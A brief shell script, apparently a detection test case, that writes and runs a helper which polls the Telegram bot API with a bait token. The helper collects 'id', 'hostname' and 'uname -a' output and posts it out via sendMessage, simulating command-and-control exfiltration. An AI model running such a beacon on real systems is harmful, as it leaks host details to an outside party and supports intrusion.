#!/bin/sh
. /opt/case/case.sh

cat >/tmp/tg.sh <<'END'
api=http://api.telegram.org/bot7000000000:AAbaitbaitbaitbaitbaitbaitbaitbaitb
for round in 1 2 3 4; do
    curl -s "$api/getUpdates?offset=$round&timeout=1" >/tmp/u
    out=$(sh -c 'id; hostname; uname -a' 2>&1)
    curl -s "$api/sendMessage" --data-urlencode chat_id=1 --data-urlencode "text=$out" >/tmp/sent
    sleep 0.3
done
END
bash /tmp/tg.sh
grep -q ok /tmp/sent
took_place
